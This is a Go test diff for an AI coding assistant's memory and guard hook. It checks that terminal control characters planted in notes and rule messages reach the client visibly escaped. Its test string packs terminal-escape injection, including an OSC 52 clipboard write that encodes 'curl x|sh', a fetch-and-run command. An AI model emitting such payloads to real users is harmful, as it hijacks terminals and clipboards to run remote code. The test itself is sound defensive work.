@@ -551,3 +551,31 @@ func TestHook_APlantedConfigFileHangsNothing(t *testing.T) {
 		}
 	}
 }
+
+// Clear-screen, window-title, clipboard-write (OSC 52) and right-to-left
+// override characters from a note and from a rule's message reached the
+// client raw, in the prompt's memory and in the refusal the person reads.
+// Both show them visibly now.
+func TestHook_ControlCharactersReachTheClientVisibly(t *testing.T) {
+	h := newHookEnv(t)
+	evil := "\x1b[2J\x1b]0;pwned\x07\x1b]52;c;Y3VybCB4fHNo\x07 \u202eexe.txt"
+	testvault.Write(t, h.vault, "howto/release.md", "---\nid: mem_release\ntitle: How to release a new version\n---\n# How to release a new version\n\n## Before the release\n\nRun make test and update the changelog before you tag the release. "+evil+"\n")
+	testvault.Write(t, h.vault, "decisions/adr-015.md", "---\nid: mem_adr15\nguard:\n  - id: ADR-015-no-select-star\n    deny: \"SELECT \\\\* FROM\"\n    message: \"name the columns \\e[2J\\u202e\"\n---\n# ADR 015: no SELECT *\n\nQueries name their columns.\n")
+	testvault.Git(t, h.vault, "commit", "-qam", "notes with control characters")
+	out, _ := h.run("prompt", "claude", map[string]any{"session_id": "c", "hook_event_name": "UserPromptSubmit", "prompt": "what do I run before I tag the release?"})
+	ctx := hookContext(t, out)
+	if !strings.Contains(ctx, "Run make test") || strings.ContainsAny(ctx, "\x1b\x07\u202e") || !strings.Contains(ctx, "^[[2J") || !strings.Contains(ctx, "<U+202E>") {
+		t.Errorf("the prompt's memory:\n%q", ctx)
+	}
+	testvault.Write(t, h.code, "q.sql", "SELECT * FROM users;\n")
+	testvault.Git(t, h.code, "add", "q.sql")
+	out, _ = h.run("pre-tool", "claude", map[string]any{"session_id": "c", "hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": map[string]any{"command": "git commit -m q"}})
+	var o struct {
+		H struct {
+			Reason string `json:"permissionDecisionReason"`
+		} `json:"hookSpecificOutput"`
+	}
+	if err := json.Unmarshal([]byte(out), &o); err != nil || !strings.Contains(o.H.Reason, "name the columns") || strings.ContainsAny(o.H.Reason, "\x1b\u202e") {
+		t.Errorf("the refusal: %v %q", err, o.H.Reason)
+	}
+}
